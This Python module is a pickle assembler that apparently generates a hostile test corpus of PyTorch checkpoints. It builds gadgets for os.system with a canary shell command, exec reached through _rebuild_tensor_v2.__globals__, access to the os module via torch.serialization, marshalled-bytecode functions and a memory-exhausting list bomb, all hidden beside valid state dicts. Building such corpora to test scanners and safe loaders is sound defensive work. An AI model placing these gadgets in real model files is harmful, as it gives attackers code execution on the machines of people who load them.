"""A pickle assembler (opcode by opcode, so each gadget reads like its disassembly) and the building
blocks of torch's pickles: globals, calls, persistent ids of storages, tensor rebuilds."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import TypeAlias

from hostile_corpus.common import CANARY_CODE_MARSHAL, CANARY_SHELL, NUMEL, SIZE, STRIDE

Emit: TypeAlias = Callable[["Pickle"], None]
Value: TypeAlias = "None | bool | int | str | bytes | tuple[Value, ...] | dict[Value, Value] | Emit"


class Pickle:
    """A pickle stream assembled opcode by opcode, so each gadget reads like its disassembly."""

    def __init__(self, protocol: int) -> None:
        self._out = bytearray(pickle.PROTO + bytes([protocol]))

    def op(self, opcode: bytes, arg: bytes = b"") -> Pickle:
        self._out += opcode + arg
        return self

    def push(self, value: Value) -> Pickle:
        """Emit opcodes leaving ``value`` on the stack; callables emit themselves (gadgets)."""
        if callable(value):
            value(self)
        elif value is None:
            self.op(pickle.NONE)
        elif isinstance(value, bool):
            self.op(pickle.NEWTRUE if value else pickle.NEWFALSE)
        elif isinstance(value, int):
            if 0 <= value < 2**8:
                self.op(pickle.BININT1, bytes([value]))
            elif -(2**31) <= value < 2**31:
                self.op(pickle.BININT, struct.pack("<i", value))
            else:
                raw = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
                self.op(pickle.LONG1, bytes([len(raw)]) + raw)
        elif isinstance(value, str):
            raw = value.encode()
            self.op(pickle.BINUNICODE, struct.pack("<I", len(raw)) + raw)
        elif isinstance(value, bytes):
            self.op(pickle.BINBYTES, struct.pack("<I", len(value)) + value)
        elif isinstance(value, tuple):
            if not value:
                return self.op(pickle.EMPTY_TUPLE)
            self.op(pickle.MARK)
            for item in value:
                self.push(item)
            self.op(pickle.TUPLE)
        elif isinstance(value, dict):
            self.op(pickle.EMPTY_DICT)
            if value:
                self.setitems(value)
        else:
            raise TypeError(f"cannot pickle {value!r}")
        return self

    def setitems(self, items: Mapping[Value, Value]) -> Pickle:
        self.op(pickle.MARK)
        for key, item in items.items():
            self.push(key).push(item)
        return self.op(pickle.SETITEMS)

    def finish(self) -> bytes:
        return bytes(self._out + pickle.STOP)


def dump(root: Value, protocol: int = 2) -> bytes:
    """Pickle ``root``; protocol 2 matches what torch.save writes."""
    return Pickle(protocol).push(root).finish()


def glob(module: str, name: str) -> Emit:
    return lambda p: p.op(pickle.GLOBAL, f"{module}\n{name}\n".encode())


def call(func: Value, *args: Value) -> Emit:
    """``func(*args)`` via REDUCE: the basic code-execution primitive of pickle."""
    return lambda p: p.push(func).push(args).op(pickle.REDUCE)


def attr(obj: Value, name: str) -> Emit:
    return call(glob("builtins", "getattr"), obj, name)


def stack_global(module: str, name: str) -> Emit:
    return lambda p: p.push(module).push(name).op(pickle.STACK_GLOBAL)


def inst(module: str, name: str, *args: Value) -> Emit:
    def emit(p: Pickle) -> None:
        p.op(pickle.MARK)
        for arg in args:
            p.push(arg)
        p.op(pickle.INST, f"{module}\n{name}\n".encode())

    return emit


def obj(cls: Value, *args: Value) -> Emit:
    def emit(p: Pickle) -> None:
        p.op(pickle.MARK).push(cls)
        for arg in args:
            p.push(arg)
        p.op(pickle.OBJ)

    return emit


def newobj(cls: Value, args: tuple[Value, ...]) -> Emit:
    return lambda p: p.push(cls).push(args).op(pickle.NEWOBJ)


def newobj_ex(cls: Value, args: tuple[Value, ...], kwargs: dict[Value, Value]) -> Emit:
    return lambda p: p.push(cls).push(args).push(kwargs).op(pickle.NEWOBJ_EX)


def build(target: Value, *states: Value) -> Emit:
    def emit(p: Pickle) -> None:
        p.push(target)
        for state in states:
            p.push(state).op(pickle.BUILD)

    return emit


def ext1(code: int) -> Emit:
    return lambda p: p.op(pickle.EXT1, bytes([code]))


def recall(slot: int) -> Emit:
    """BINGET: the object stored in memo ``slot`` again, the same object (how pickles share and cycle)."""
    return lambda p: p.op(pickle.BINGET, bytes([slot]))


def persid(pid: tuple[Value, ...]) -> Emit:
    return lambda p: p.push(pid).op(pickle.BINPERSID)


def shared_list_bomb(p: Pickle, depth: int) -> None:
    """``[x, x]`` nested ``depth`` times, every level the previous one twice through memo slot 0."""
    p.push("x").op(pickle.BINPUT, b"\x00")
    for _ in range(depth):
        p.op(pickle.POP).op(pickle.MARK).op(pickle.BINGET, b"\x00").op(pickle.BINGET, b"\x00")
        p.op(pickle.LIST).op(pickle.BINPUT, b"\x00")


def ordered_dict(items: Mapping[Value, Value] | None = None) -> Emit:
    """``collections.OrderedDict()`` as torch writes it for backward_hooks, optionally filled."""
    empty = call(glob("collections", "OrderedDict"))
    if not items:
        return empty
    return lambda p: p.push(empty).setitems(items)


def tensor(
    storage: Value,
    offset: Value = 0,
    size: Value = SIZE,
    stride: Value = STRIDE,
    hooks: Value = None,
) -> Emit:
    """``torch._utils._rebuild_tensor_v2`` exactly as torch.save emits it; any argument may be a gadget."""
    backward_hooks = ordered_dict() if hooks is None else hooks
    return call(glob("torch._utils", "_rebuild_tensor_v2"), storage, offset, size, stride, False, backward_hooks)


@dataclass(frozen=True)
class Format:
    """Checkpoint container; the only pickle-level difference is the storage persistent id."""

    name: str  # "zip" or "legacy"

    def storage(self, key: Value = "0", numel: Value = NUMEL, view: Value = None) -> Emit:
        """Persistent id of a FloatStorage; legacy ids carry a trailing view_metadata field."""
        pid: tuple[Value, ...] = ("storage", glob("torch", "FloatStorage"), key, "cpu", numel)
        if self.name == "legacy":
            pid += (view,)
        return persid(pid)


ZIP = Format("zip")
LEGACY = Format("legacy")
ObjectFor: TypeAlias = Callable[[Format], Value]


def benign(fmt: Format) -> Value:
    return {"weight": tensor(fmt.storage())}


def beside(gadget: Value) -> ObjectFor:
    """A valid state dict with the gadget as a second entry, so a reader meets real torch structure first."""
    return lambda fmt: {"weight": tensor(fmt.storage()), "extra": gadget}


def weight(**tensor_args: Value) -> ObjectFor:
    """A state dict whose only tensor uses forged rebuild arguments."""
    return lambda fmt: {"weight": tensor(fmt.storage(), **tensor_args)}


def weight_storage(**storage_args: Value) -> ObjectFor:
    """A state dict whose only tensor has a forged storage persistent id."""
    return lambda fmt: {"weight": tensor(fmt.storage(**storage_args))}


OS_SYSTEM = call(glob("os", "system"), CANARY_SHELL)
UNKNOWN = glob("evil", "Payload")
NO_CANARY = " (no canary by design)"


def os_module_via_torch() -> Emit:
    """The os module itself, reached as an attribute of a torch module: GLOBAL 'torch.serialization os'."""
    return glob("torch.serialization", "os")


def exec_via_rebuild_globals() -> Emit:
    """builtins.exec reached from the allow-listed rebuild function: f.__globals__['__builtins__']['exec']."""
    module_globals = attr(glob("torch._utils", "_rebuild_tensor_v2"), "__globals__")
    builtins_dict = call(attr(module_globals, "get"), "__builtins__")
    return call(attr(builtins_dict, "get"), "exec")


def marshalled_function() -> Emit:
    """A function built from marshalled bytecode: types.FunctionType(marshal.loads(code), {})."""
    return call(glob("types", "FunctionType"), call(glob("marshal", "loads"), CANARY_CODE_MARSHAL), {})
